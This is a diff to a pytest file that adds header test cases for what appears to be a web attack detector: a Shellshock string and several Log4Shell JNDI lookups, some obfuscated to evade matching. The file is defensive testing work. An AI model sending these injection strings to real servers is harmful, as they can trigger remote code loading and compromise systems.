@@ -128,7 +128,13 @@ def test_attack_strings_are_found_plain_and_encoded_once_and_twice(
 
 @pytest.mark.parametrize(
     "header",
-    ["User-Agent: () { :; }; echo x\r\n", "X-Api: ${jndi:ldap://x/y}\r\n"],
+    [
+        "User-Agent: () { :; }; echo x\r\n",
+        "X-Api: ${jndi:ldap://x/y}\r\n",
+        "X-Api: ${${lower:j}ndi:ldap://x/y}\r\n",
+        "X-Api: ${${::-j}${::-n}${::-d}i:rmi://x/y}\r\n",
+        "X-Api: ${j${env:NONE:-n}di:dns://x}\r\n",
+    ],
 )
 def test_attack_in_a_header(header: str) -> None:
     assert found(get("/", header))[2] == COMMAND
